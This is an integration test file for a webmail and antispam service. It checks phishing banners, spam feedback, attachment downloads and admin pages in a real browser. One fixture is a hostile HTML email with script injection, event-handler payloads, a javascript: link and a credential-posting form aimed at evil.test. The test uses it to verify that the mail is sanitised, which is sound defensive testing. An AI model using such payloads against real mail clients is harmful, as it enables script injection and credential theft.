"""The pages in a real browser (Debian's chromium through Playwright): a reader logs in,
reads a phishing letter's banner with every sign and its evidence, says "not spam" and sees
the letter move and the counters change, downloads an attachment byte for byte, logs out; a
hostile letter runs and fetches nothing; an admin sees the savings, a Valkyrie pass after it
runs, the verdicts and a leak audit."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest

from pochta.antispam.shingles.extract import extract
from pochta.antispam.shingles.registry import ShingleType
from pochta.antispam.signs import checks
from pochta.mime.letter import parse
from tests.integration.conftest import TOKEN
from tests.integration.web.conftest import ALICE, BOB, PASSWORD, ROOT, Site, shot
from tests.mailtools import letter, payload

pytestmark = pytest.mark.integration

PHISHING = Path(__file__).parents[2] / "data" / "phishing" / "en01_paypal_confusable.eml"
PHISHER_HELO = "mail.phisher.example"
SHARED = payload(11, 200_000)  # one attachment for three mailboxes: stored once

HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://evil.test/refresh">
<link rel="stylesheet" href="http://evil.test/x.css">
<style>@import url(http://evil.test/i.css); body{background:url(http://evil.test/bg.png)}</style>
<script>alert("pwned-1"); console.log("pwned-1"); fetch("http://evil.test/xhr")</script></head>
<body onload="alert('pwned-2')">
<p id="hello" style="color: red; background-image: url(http://evil.test/p.png);
width: expression(alert('pwned-3'))">hello, reader</p>
<img src="http://evil.test/pixel.gif" onerror="alert('pwned-4')" width="10" height="10">
<a id="js" href="javascript:alert('pwned-5')">click me</a>
<svg onload="alert('pwned-6')"><image href="http://evil.test/svg.png"/></svg>
<iframe src="http://evil.test/frame"></iframe>
<form action="http://evil.test/form"><input name="password"></form>
<object data="http://evil.test/object"></object>
<table background="http://evil.test/table.png"><tr><td onmouseover="alert('pwned-7')">cell</td>
</tr></table></body></html>"""


@pytest.fixture(scope="module")
def mail(site: Site) -> dict[str, int]:
    """The letters, delivered over SMTP (scored, with pochta's Received header); their ids."""
    # without its own Received line (which names paypa1.com), so that the only hop is the
    # one pochta writes with the HELO name the phisher gave: the Received sign's evidence
    raw = re.sub(rb"Received: [^\n]*\n(?:[ \t][^\n]*\n)*", b"", PHISHING.read_bytes(), count=1)
    site.send(raw, ALICE, helo=PHISHER_HELO)
    report = letter(subject="Quarterly report", attachments=[("report.pdf", SHARED)])
    site.send(report, ALICE, BOB, ROOT)
    site.send(letter(subject="Hostile HTML", html=HOSTILE), ALICE)
    with site.api(ALICE) as api:
        found: dict[str, int] = {}
        deadline = time.monotonic() + 30
        while len(found) < 3:
            assert time.monotonic() < deadline, found
            for folder in ("Inbox", "Spam"):
                for m in api.get("/v1/messages", params={"folder": folder}).json()["messages"]:
                    found[m["subject"]] = m["id"]
            time.sleep(0.1)
        ids = {
            "phishing": next(v for k, v in found.items() if "PayPal" in k or "account" in k),
            "report": found["Quarterly report"],
            "hostile": found["Hostile HTML"],
        }
        phishing = api.get(f"/v1/messages/{ids['phishing']}?peek=true").json()
        assert phishing["folder"] == "Spam" and phishing["verdict"] == "phishing"
        # a javascript: link (PHISH_LINK_DATA_URL) and a password form: phishing too
        hostile = api.get(f"/v1/messages/{ids['hostile']}?peek=true").json()
        assert hostile["folder"] == "Spam" and hostile["verdict"] == "phishing"
    return ids


@pytest.fixture
def page(browser: Any, site: Site) -> Iterator[Any]:
    context = browser.new_context(
        base_url=site.url, viewport={"width": 1280, "height": 900}, accept_downloads=True
    )
    context.set_default_timeout(15_000)
    yield context.new_page()
    context.close()


def log_in(page: Any, email: str) -> None:
    page.goto("/webmail/login")
    page.fill("input[name=email]", email)
    page.fill("input[name=password]", PASSWORD)
    page.click("#login")
    page.wait_for_url(re.compile(r"/webmail$"))


def count(page: Any, folder: str, what: str = "total") -> int:
    value = page.locator(f'aside a[data-folder="{folder}"] + .count').get_attribute(f"data-{what}")
    return int(value)


def from_counter(site: Site, raw: bytes, kind: str) -> int:
    """The counter ``kind`` of the letter's From address over 14 days (the service API)."""
    (from_,) = [s for s in extract(parse(raw)) if s.type == ShingleType.FROM_ADDRESS]
    r = httpx.post(
        f"{site.url}/v1/shingles/query",
        json={"windows": ["14d"], "shingles": [{"type": int(from_.type), "hash": from_.hex}]},
        headers={"Authorization": f"Bearer {TOKEN}"},
    )
    r.raise_for_status()
    return int(r.json()["shingles"][0]["counters"]["14d"][kind])


def test_a_reader_sees_why_a_letter_is_phishing_says_not_spam_and_downloads(
    page: Any, site: Site, mail: dict[str, int]
) -> None:
    page.goto("/webmail")
    page.wait_for_url(re.compile(r"/webmail/login$"))  # no session: the login form
    shot(page, "01-login")
    log_in(page, ALICE)
    assert count(page, "Spam") == 2 and count(page, "Spam", "unseen") == 2  # the two phishing
    shot(page, "02-inbox")

    page.click('aside a[data-folder="Spam"]')
    page.click(f'tr[data-id="{mail["phishing"]}"] a')
    banner = page.locator("#phishing-banner")
    banner.wait_for()
    with site.api(ALICE) as api:
        stored = api.get(f"/v1/messages/{mail['phishing']}/raw").content
    signs = checks.check(parse(stored))
    symbols = [s.symbol for s in signs]
    assert {"PHISH_SENDER_LOOKALIKE", "PHISH_LINK_TEXT_MISMATCH", "PHISH_RECEIVED_MISMATCH"} <= set(
        symbols
    )
    assert banner.locator("li.sign").evaluate_all("els => els.map(e => e.dataset.symbol)") == (
        symbols
    )
    for sign in signs:
        assert (
            sign.explanation_en in banner.locator(f'li[data-symbol="{sign.symbol}"]').inner_text()
        )
    lookalike = banner.locator('li[data-symbol="PHISH_SENDER_LOOKALIKE"]')
    assert lookalike.locator("code.fake").inner_text() == "paypa1.com"
    assert lookalike.locator("code.real").inner_text() == "paypal"
    link = banner.locator('li[data-symbol="PHISH_LINK_TEXT_MISMATCH"]')
    assert link.locator("code.real").inner_text() == "www.paypal.com"
    assert link.locator("code.fake").inner_text() == "paypa1-secure.com"
    received = banner.locator('li[data-symbol="PHISH_RECEIVED_MISMATCH"]')
    assert PHISHER_HELO in received.locator("code.fake").inner_text()
    assert received.locator("code.real").inner_text() == "paypa1.com"
    page.frame_locator("#letter-body").locator("p", has_text="Dear Customer").wait_for()
    shot(page, "03-letter-phishing")

    page.click('header button[name=lang][value="ru"]')
    banner.wait_for()
    assert "Осторожно" in banner.inner_text()
    for sign in signs:
        assert (
            sign.explanation_ru in banner.locator(f'li[data-symbol="{sign.symbol}"]').inner_text()
        )
    page.frame_locator("#letter-body").locator("p", has_text="Dear Customer").wait_for()
    shot(page, "04-letter-phishing-ru")
    page.click('header button[name=lang][value="en"]')

    inbox, spam = count(page, "Inbox"), count(page, "Spam")
    unspam = from_counter(site, stored, "unspam")
    assert page.locator("#sender-stats").count() == 0  # one letter: too few to say anything
    page.click("#not-spam")
    page.locator("#notice").wait_for()
    assert "Moved to Inbox" in page.locator("#notice").inner_text()
    assert (count(page, "Inbox"), count(page, "Spam")) == (inbox + 1, spam - 1)
    assert from_counter(site, stored, "unspam") == unspam + 1  # the counters heard it
    assert page.locator("#spam").is_visible()  # now it can be sent back to Spam
    assert page.locator("#list-offer").count() == 0  # no "always trust" for a phishing letter
    shot(page, "05-letter-not-spam")

    page.click('aside a[data-folder="Inbox"]')
    page.click(f'tr[data-id="{mail["report"]}"] a')
    with page.expect_download() as download:
        page.click("a.attachment")
    assert download.value.suggested_filename == "report.pdf"
    assert Path(download.value.path()).read_bytes() == SHARED
    shot(page, "06-letter-attachment")
    page.click("#spam")  # "this is spam": a complaint for the admin's table
    page.locator("#notice").wait_for()
    assert count(page, "Spam") == spam
    offer = page.locator('#list-offer button.offer[data-action="block"]')
    assert offer.get_attribute("data-value") == "sender@example.net"
    shot(page, "07-letter-spam-offer")
    offer.click()  # "always spam from sender@example.net"
    page.locator("#notice").wait_for()
    page.click("#lists-link")
    entry = page.locator('#entries tr.entry[data-value="sender@example.net"]')
    assert entry.get_attribute("data-action") == "block"
    shot(page, "08-sender-lists")
    entry.locator("button").click()  # remove it again: the other tests' letters come from it
    page.locator("#no-entries").wait_for()

    page.click("#logout")
    page.wait_for_url(re.compile(r"/webmail/login$"))
    page.goto(f"/webmail/letters/{mail['report']}")
    page.wait_for_url(re.compile(r"/webmail/login$"))  # the session is over


def test_a_hostile_letter_runs_nothing_and_fetches_nothing(
    page: Any, site: Site, mail: dict[str, int]
) -> None:
    outside: list[str] = []
    dialogs: list[str] = []
    console: list[str] = []

    def route(r: Any) -> None:
        if r.request.url.startswith(site.url):
            r.continue_()
        else:  # anything for another host is recorded and never sent
            outside.append(r.request.url)
            r.abort()

    page.context.route("**/*", route)
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("console", lambda m: console.append(m.text))
    log_in(page, ALICE)
    page.goto(f"/webmail/letters/{mail['hostile']}")
    frame = page.frame_locator("#letter-body")
    frame.locator("p", has_text="hello, reader").wait_for()
    link = frame.locator("a", has_text="click me")  # ids are not kept: found by text
    assert link.get_attribute("href") is None
    link.click()
    frame.locator("td", has_text="cell").hover()
    assert page.locator("#images-blocked").is_visible()
    body = page.frame(url=re.compile(r"/body"))
    assert body is not None
    assert body.evaluate("document.scripts.length") == 0
    assert page.evaluate("document.scripts.length") == 0
    shot(page, "07-letter-hostile")
    assert outside == [] and dialogs == []
    assert not [m for m in console if "pwned" in m]

    # a positive control: asked to, the frame fetches the remote image (and only that)
    page.click("#show-images")
    page.frame_locator("#letter-body").locator("p", has_text="hello, reader").wait_for()
    wait_until(lambda: "http://evil.test/pixel.gif" in outside, "the remote image's request")
    assert set(outside) == {"http://evil.test/pixel.gif"} and dialogs == []


def wait_until(condition: Callable[[], bool], what: str, timeout: float = 15) -> None:
    deadline = time.monotonic() + timeout
    while not condition():
        assert time.monotonic() < deadline, f"gave up waiting for {what}"
        time.sleep(0.1)


def pochta(site: Site, *args: str, stdin: str | None = None) -> Any:
    done = subprocess.run(
        [sys.executable, "-m", "pochta", *args, "--json", "--data", str(site.server.data)],
        capture_output=True,
        text=True,
        input=stdin,
        timeout=120,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    return json.loads(done.stdout)


def test_an_admin_sees_the_savings_a_valkyrie_pass_the_verdicts_and_an_audit(
    page: Any, site: Site, mail: dict[str, int], tmp_path: Path
) -> None:
    log_in(page, ALICE)  # a reader is refused first
    page.goto("/admin/storage")
    assert "These pages are for administrators." in page.locator("main").inner_text()
    page.click("#logout")

    log_in(page, ROOT)
    page.goto("/admin/storage")
    stats = pochta(site, "stats")
    logical, stored = stats["logical_bytes"], stats["skeleton_bytes"] + stats["blob_bytes"]
    savings = float(page.locator("#savings").inner_text().split()[0])
    assert savings == round(100 * (logical - stored) / logical, 1) > 30  # three copies, one kept
    assert page.locator("#letters").inner_text() == str(stats["letters"])
    assert page.locator("svg.chart polyline, svg.chart circle").count() >= 1
    shot(page, "10-admin-storage")

    page.goto("/admin/valkyrie")
    assert page.locator("#no-pass").is_visible()
    pochta(site, "valkyrie", "run", "--once")
    page.reload()
    rows = page.locator("#disks tbody tr")
    assert rows.count() == 2
    for i in range(2):
        assert rows.nth(i).locator(".passes").inner_text() == "1"
        assert "UTC" in rows.nth(i).locator(".last-pass").inner_text()
        assert int(rows.nth(i).locator(".checked").inner_text()) >= 1
    shot(page, "11-admin-valkyrie")

    def phishing_counted() -> bool:
        page.goto("/admin/verdicts")
        return page.locator("#total-phishing").inner_text() == "2"  # and the hostile letter

    wait_until(phishing_counted, "the verdict tallies' flush")  # every 5 s
    rows = page.locator("#complaints tbody tr")  # alice's "spam": the letter's shingles,
    assert rows.count() == 10  # each with one complaint in the history and the counters
    for i in range(10):
        history, counters = rows.nth(i).locator("td").all_inner_texts()[2:4]
        assert history == "1" and counters.startswith("1 / ")
    # the two phishing letters' signs, each once: the chart's 10 (of more), each a known sign
    chart = page.locator("svg.chart").nth(1)
    assert chart.locator("rect").count() == 10 and "PHISH_" in chart.inner_html()
    shot(page, "12-admin-verdicts")

    page.goto("/admin/pairs")
    assert page.locator('#pairs tr[data-pair="1"] .flags').inner_text() == "none"
    shot(page, "13-admin-pairs")

    dump = tmp_path / "dump.txt"
    dump.write_text(f"{BOB}:{PASSWORD}\n{ALICE}:wrong\nnobody@example.org:x\nnot a line\n")
    report = pochta(site, "leaks", "audit", str(dump), "--workers", "1")
    assert (report["valid"], report["wrong"], report["unknown"]) == (1, 1, 1)
    page.goto("/admin/audits")
    row = page.locator("#audits tbody tr").first
    assert [c.strip() for c in row.locator("td").all_inner_texts()[1:6]] == [
        "4",
        "1",
        "1 (33.33 %)",
        "1 (33.33 %)",
        "1 (33.33 %)",
    ]
    shot(page, "14-admin-audits")
    page.goto("/admin/logins")
    shot(page, "15-admin-logins")
